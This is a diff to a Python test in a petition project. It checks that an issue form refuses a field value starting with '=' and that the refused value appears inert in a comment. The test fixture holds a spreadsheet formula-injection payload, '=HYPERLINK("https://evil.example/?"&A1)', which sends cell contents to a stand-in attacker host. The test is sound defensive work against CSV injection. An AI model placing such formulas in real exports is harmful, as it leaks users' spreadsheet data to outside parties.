@@ -17,6 +17,7 @@ from petition.core.schemas import is_multiline
 from petition.exchange.csvformats import FIELDS, SCDL_COLUMNS
 from petition.exchange.export import FORMULA, build_export
 from petition.exchange.writer import dump_motion
+from petition.text.mdtext import after
 
 FORMULA_TEXT = '=HYPERLINK("https://evil.example/?"&A1)'
 REFUSED = (f"« {FORMULA_TEXT} » commence par « = » : un tableur qui ouvre les données ouvertes "
@@ -131,7 +132,7 @@ def test_issue_form_refuses_a_formula(sample_repo: RepoBuilder, tmp_path: Path) 
     line = event["issue"]["body"].splitlines().index("### Objet") + 1
     assert (result.exit_code, result.stdout, result.stderr) == (
         1, "", f"ticket #12:{line}: Objet : {REFUSED}\n")
-    assert f"Objet : {REFUSED}" in comment.read_text("utf-8")
+    assert f"- **Objet** : {after(REFUSED)}\n" in comment.read_text("utf-8")  # shown inert
     assert not list((sample_repo.root / f"motions/{CAMPAIGN}").glob("commune-62510-*"))
 
 
